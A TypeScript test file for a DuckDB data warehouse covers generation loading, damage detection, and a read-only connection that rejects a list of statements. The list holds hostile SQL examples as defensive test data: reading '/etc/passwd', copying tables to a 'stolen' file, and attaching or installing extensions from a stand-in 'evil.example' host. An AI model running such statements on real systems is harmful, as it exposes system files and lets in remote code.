import { appendFile, chmod, readFile, writeFile } from 'node:fs/promises'
import path from 'node:path'
import { expect, test, vi } from 'vitest'
import { portfolio } from '#app/queries/portfolio.ts'
import { arrive, ask, askWithin, generationInUse, leave, NothingLoaded } from '#app/warehouse/ask.server.ts'
import { openReadOnly } from '#app/warehouse/duckdb.server.ts'
import { foldersOf } from '#app/warehouse/files.server.ts'
import { currentManifest } from '#app/warehouse/generations.server.ts'
import { viewNames } from '#app/warehouse/schema.ts'
import { load } from '#test/load.ts'
import { rowsIn, temporaryFolder } from '#test/support.ts'

const realCase = 'data/sample/长安区-2019-中小企业网上服务经费-自评报告.txt'

const settled = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms))

test('before anything is loaded the door says so', async () => {
  await expect(ask(portfolio, undefined, await temporaryFolder())).rejects.toBeInstanceOf(NothingLoaded)
})

test('questions of one request that cannot be answered are each told so', async () => {
  const dataDir = await temporaryFolder()
  const [nothing, older] = [arrive(), arrive()]
  const told = (id: string) =>
    Promise.all(
      [1, 2].map(async () => {
        const fault: unknown = await askWithin(
          'everything',
          dataDir,
          undefined,
          id,
        )(portfolio, undefined).catch((error: unknown) => error)
        return fault instanceof Response ? `${fault.statusText}: ${await fault.text()}` : fault
      }),
    )
  expect(await told(nothing)).toEqual(Array(2).fill(expect.stringMatching(/^Nothing loaded: /)))
  await load(dataDir, realCase)
  const { pointer, generations } = foldersOf(dataDir)
  const manifest = JSON.stringify({ ...(await currentManifest(dataDir)), schema: 1 })
  for (const file of [pointer, path.join(generations, 'gen-000001.duckdb.json')])
    await writeFile(file, manifest)
  expect(await told(older)).toEqual(Array(2).fill(expect.stringMatching(/^Other version: .*older Yardstick/)))
  leave(nothing)
  leave(older)
})

test('readers move on to a new generation by themselves', async () => {
  const dataDir = await temporaryFolder()
  await load(dataDir, realCase)
  expect(await ask(portfolio, undefined, dataDir)).toEqual([{ sample: false, evaluations: 1 }])
  await load(dataDir, 'data/sample/2018/临澜区')
  await vi.waitFor(async () => expect((await ask(portfolio, undefined, dataDir))[0]?.sample).toBe(true), {
    timeout: 60_000,
    interval: 200,
  })
  expect((await generationInUse(dataDir)).generation).toBe(2)
})

test('a damaged generation is noticed before a number is shown, and the one before is served on', async () => {
  const dataDir = await temporaryFolder()
  await load(dataDir, realCase)
  await ask(portfolio, undefined, dataDir)
  const { generations, pointer } = foldersOf(dataDir)
  const before = await currentManifest(dataDir)
  const damaged = path.join(generations, 'gen-000002.duckdb')
  await writeFile(damaged, await readFile(path.join(generations, before?.file ?? '')))
  await chmod(damaged, 0o644)
  await appendFile(damaged, 'x')
  await writeFile(
    pointer,
    JSON.stringify({ ...before, generation: 2, file: 'gen-000002.duckdb', previous: 1 }),
  )
  await settled(600)
  expect(await ask(portfolio, undefined, dataDir)).toEqual([{ sample: false, evaluations: 1 }])
  const inUse = await generationInUse(dataDir)
  expect(inUse.generation).toBe(1)
  expect(inUse.fault).toContain('gen-000002.duckdb differs from its manifest')
})

test('nothing grows from a damaged generation, wherever the damage lies', async () => {
  const dataDir = await temporaryFolder()
  await load(dataDir, realCase)
  const { generations } = foldersOf(dataDir)
  const manifest = await currentManifest(dataDir)
  const file = path.join(generations, manifest?.file ?? '')
  const whole = await readFile(file)
  await chmod(file, 0o644)
  for (const share of [0.0001, 0.3, 0.6, 0.9, 0.9999]) {
    const damaged = Buffer.from(whole)
    const place = Math.floor(share * whole.length)
    damaged[place] = (damaged[place] ?? 0) ^ 4
    await writeFile(file, damaged)
    // What the engine meets itself it tells before anything is copied.
    await expect(load(dataDir, 'data/sample/2018/临澜区')).rejects.toThrow(/run npm run ingest -- --rebuild/)
    expect((await currentManifest(dataDir))?.generation).toBe(1)
  }
  await writeFile(file, whole)
  await load(dataDir, 'data/sample/2018/临澜区')
  expect((await currentManifest(dataDir))?.generation).toBe(2)
})

test('every view answers to any client of the newest generation', async () => {
  const dataDir = await temporaryFolder()
  await load(dataDir, realCase)
  for (const view of viewNames) {
    const rows = await rowsIn(dataDir, { text: `select * from ${view}`, values: [] })
    expect([view, rows.length]).toEqual([view, expect.any(Number)])
  }
})

/** What would read or write beyond the generation, or change how it is read. */
const refused = [
  'create table t (a integer)',
  'create schema s',
  'delete from document',
  "update evaluation set project = 'x'",
  'drop table document',
  'alter table document add column x integer',
  'truncate document',
  ...['csv', 'parquet', 'json'].map(
    (format) => `copy document to '/tmp/yardstick-stolen' (format ${format})`,
  ),
  "copy document from '/etc/passwd'",
  "export database '/tmp/yardstick-stolen'",
  "import database '/tmp/yardstick-stolen'",
  ...[
    'read_csv',
    'read_csv_auto',
    'sniff_csv',
    'read_text',
    'read_blob',
    'read_json',
    'read_ndjson',
    'read_parquet',
  ].map((reader) => `select * from ${reader}('/etc/passwd')`),
  ...['parquet_metadata', 'parquet_schema', 'parquet_file_metadata', 'parquet_kv_metadata'].map(
    (reader) => `select * from ${reader}('/etc/passwd')`,
  ),
  "select * from '/etc/passwd'",
  "select * from 'x.parquet'",
  "select * from read_csv('https://evil.example/x.csv')",
  "select * from read_csv('s3://evil/x.csv')",
  "attach '/tmp/yardstick-other.duckdb'",
  "attach '/tmp/yardstick-other.duckdb' as other (read_only)",
  "attach 'https://evil.example/x.duckdb'",
  "attach 'x.sqlite' (type sqlite)",
  'install httpfs',
  "install x from 'http://evil.example'",
  'force install icu',
  'load httpfs',
  "load '/tmp/x.duckdb_extension'",
  'update extensions',
  'create secret s (type s3)',
  "set memory_limit = '10GB'",
  "set temp_directory = '/etc'",
  'set threads = 64',
  'set enable_external_access = true',
  'set lock_configuration = false',
  "set allowed_directories = ['/']",
  "set home_directory = '/root'",
  "set extension_directory = '/tmp'",
  "set secret_directory = '/tmp'",
  'set autoinstall_known_extensions = true',
  'set allow_unsigned_extensions = true',
  "set global TimeZone = 'UTC'",
  "set log_query_path = '/tmp/yardstick-log'",
  "set profiling_output = '/tmp/yardstick-log'",
  "pragma enable_profiling = 'json'",
  "pragma profile_output = '/tmp/yardstick-log'",
  'reset all',
  'reset enable_external_access',
]
test('a served generation refuses what reaches beyond it', async () => {
  const dataDir = await temporaryFolder()
  await load(dataDir, realCase)
  const manifest = await currentManifest(dataDir)
  const file = path.join(foldersOf(dataDir).generations, manifest?.file ?? '')
  const instance = await openReadOnly(file, await temporaryFolder())
  const connection = await instance.connect()
  const done: string[] = []
  for (const statement of refused)
    await connection.run(statement).then(
      () => done.push(statement),
      () => undefined,
    )
  expect(done).toEqual([])
  expect((await connection.runAndReadAll('select id from document')).currentRowCount).toBe(1)
  connection.closeSync()
  instance.closeSync()
})
